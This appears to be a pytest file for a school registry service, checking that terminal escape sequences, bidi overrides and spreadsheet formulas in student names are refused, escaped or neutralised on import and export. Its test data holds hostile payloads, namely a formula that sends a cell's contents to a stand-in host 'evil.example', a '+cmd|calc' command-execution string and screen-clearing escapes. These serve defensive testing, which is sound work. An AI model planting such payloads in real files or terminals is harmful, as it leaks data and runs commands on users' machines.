"""Text an attacker writes into a registry file or a call: it must not reach a terminal or a spreadsheet as code.

A name holding terminal escapes (OSC to retitle, CSI to clear the screen), a NUL that would cut it, a right-to-left
override that reorders what is shown, a formula a spreadsheet runs: refused at the door where nothing real needs it,
escaped by yearctl where it is shown, written after a ' where a spreadsheet would run it.
"""

from __future__ import annotations

import json
import sqlite3
from contextlib import closing

from conftest import parse_json, raw_call_as
from test_registry import load, write

HEADER = "student_id,last_name,first_name,middle_name,birth_date,gender,class\n"
ESCAPES = "Evil\x1b]0;pwned\x07\x1b[2J"


def test_control_characters_in_a_file_are_refused_with_the_cell(daemon):
    d = daemon()
    load(d)
    before = d.yearctl("yeard-auditor", "export", "students", "--school", "school-a")[1]
    cases = [
        (ESCAPES, "U+001B at character 5"),
        ("Nul\x00Name", "U+0000 at character 4"),
        ("Ива\u202eнов", "U+202E at character 4"),
        ("C1\u009bname", "U+009B at character 3"),
    ]
    for text, expected in cases:
        path = write(d.dir, "hostile.csv", HEADER + f'S9,"{text}",Иван,,2015-01-01,M,5А\n')
        rc, out, err = d.yearctl("yeard-secretary", "import", "students", str(path), "--school", "school-a")
        assert rc == 1, (text, out, err)
        assert f"hostile.csv:2:2 (last_name): holds the control character {expected}" in err, err
        assert "\x1b" not in err and "\u202e" not in err and "\x00" not in err, repr(err)
    # A tab inside a name is text, not a control sequence.
    path = write(d.dir, "tab.csv", HEADER + "S9,Иванов\tПетров,Иван,,2015-01-01,M,5А\n")
    rc, out, err = d.yearctl("yeard-secretary", "import", "students", str(path), "--school", "school-a")
    assert rc == 0, err
    after = d.yearctl("yeard-auditor", "export", "students", "--school", "school-a")[1]
    assert after.replace("S9,Иванов\tПетров,Иван,,2015-01-01,M,5А,,,,\n", "") == before


def test_control_characters_in_a_call_are_refused_before_any_handler(daemon):
    d = daemon()
    load(d)
    reply = raw_call_as("yeard-admin", d.socket, "io.yeard.Year.Create",
                        {"school": "school-a", "label": "2027/2028\x1b[2J"})
    assert reply["error"] == "org.varlink.service.InvalidParameter", reply
    assert reply["parameters"]["parameter"] == "label", reply
    reply = raw_call_as("yeard-secretary", d.socket, "io.yeard.Registry.Record",
                        {"kind": "consents", "school": "school-a", "values": {"person_id\u202e": "S1"}})
    assert reply["error"] == "org.varlink.service.InvalidParameter", reply
    assert reply["parameters"]["parameter"] == "values", reply


def test_yearctl_escapes_what_it_prints_from_text_stored_before_the_rule(daemon):
    d = daemon()
    load(d)
    # Text stored before the import refused it (or written by another program) is shown escaped, never executed.
    with closing(sqlite3.connect(d.dir / "yeard.sqlite", timeout=10)) as db:
        db.execute("UPDATE student SET last_name = ? WHERE id = 'S2'", (ESCAPES + "\u202e",))
        db.commit()
    rc, out, err = d.yearctl("yeard-coord", "checks", "run", "--school", "school-a")
    assert "Evil\\u{1B}]0;pwned\\u{7}\\u{1B}[2J\\u{202E}" in out, out
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out, repr(out)
    rc, out, err = d.yearctl("yeard-coord", "checks", "run", "--school", "school-a", "--json")
    assert "\x1b" not in out and "\u202e" not in out, repr(out)
    names = json.dumps(parse_json(out), ensure_ascii=False)
    assert ESCAPES.replace("\x1b", "\\u001b").replace("\x07", "\\u0007") in names, names
    # Into a pipe or a file an export stays byte for byte what is stored.
    rc, out, err = d.yearctl("yeard-auditor", "export", "students", "--school", "school-a")
    assert rc == 0 and ESCAPES in out, repr(out)


def test_formulas_are_written_as_text_for_spreadsheets_and_import_back_unchanged(daemon):
    d = daemon()
    load(d)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    path = write(d.dir, "formula.csv", HEADER + f'S9,"{formula.replace(chr(34), chr(34) * 2)}",+cmd|calc,'
                                                "-2+3,2015-01-01,M,5А\n"
                                                "S10,@SUM(A1),'=already,-,2015-01-01,M,5А\n")
    rc, out, err = d.yearctl("yeard-secretary", "import", "students", str(path), "--school", "school-a")
    assert rc == 0, err
    rc, exported, err = d.yearctl("yeard-auditor", "export", "students", "--school", "school-a")
    assert rc == 0, err
    lines = {line.split(",", 1)[0]: line for line in exported.splitlines()}
    assert lines["S9"].startswith('S9,"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",\'+cmd|calc,\'-2+3,')
    # A file's '= is read as a spreadsheet's protection (as yeard's own exports write it): stored as =already.
    assert lines["S10"].startswith("S10,'@SUM(A1),'=already,-,"), lines["S10"]
    again = write(d.dir, "again.csv", exported)
    rc, out, err = d.yearctl("yeard-secretary", "import", "students", str(again), "--school", "school-a", "--json")
    report = parse_json(out)
    assert rc == 0 and report["changed"] == 0 and report["added"] == 0, report
    rc, raw, err = d.yearctl("yeard-auditor", "export", "students", "--school", "school-a", "--raw")
    assert rc == 0, err
    assert f'S9,"{formula.replace(chr(34), chr(34) * 2)}",+cmd|calc,-2+3,' in raw, raw
    assert "S10,@SUM(A1),=already,-," in raw, raw
